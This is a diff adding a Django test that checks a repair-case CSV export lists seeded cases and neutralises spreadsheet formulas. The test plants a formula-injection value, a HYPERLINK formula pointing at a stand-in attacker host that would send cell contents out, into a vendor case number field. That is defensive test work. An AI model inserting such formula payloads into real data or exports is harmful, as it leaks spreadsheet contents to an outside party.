@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 from io import StringIO
 
 import pytest
@@ -86,3 +87,21 @@ def test_statistics_page_shows_the_repair_panel(make_user):
     assert 'id="repair-statistics"' in html
     assert "GPU tray / baseboard" in html and "NVLink / NVSwitch module" in html
     assert '<td class="num">384.0</td>' in html  # the GPU tray's 16 days for the part
+
+
+def test_repair_case_csv_lists_the_cases_with_formulas_neutralised(make_user):
+    call_command("seed_fault_history", stdout=StringIO())
+    RepairCase.objects.filter(component="transceiver").update(
+        vendor_case_number='=HYPERLINK("http://evil.example/?"&A1)'
+    )
+    client = Client()
+    client.force_login(make_user(Role.VIEWER))
+
+    response = client.get("/faults/repair-cases.csv")
+
+    assert response.status_code == 200 and response["Content-Type"] == "text/csv"
+    rows = list(csv.DictReader(StringIO(response.content.decode())))
+    assert [row["component"] for row in rows] == ["gpu_tray", "nvlink_module", "transceiver"]
+    assert rows[0]["vendor_case_number"] == "SEED-2025-06"
+    assert rows[0]["waiting_for_part_hours"] == "384.0"
+    assert rows[2]["vendor_case_number"].startswith("'=HYPERLINK")
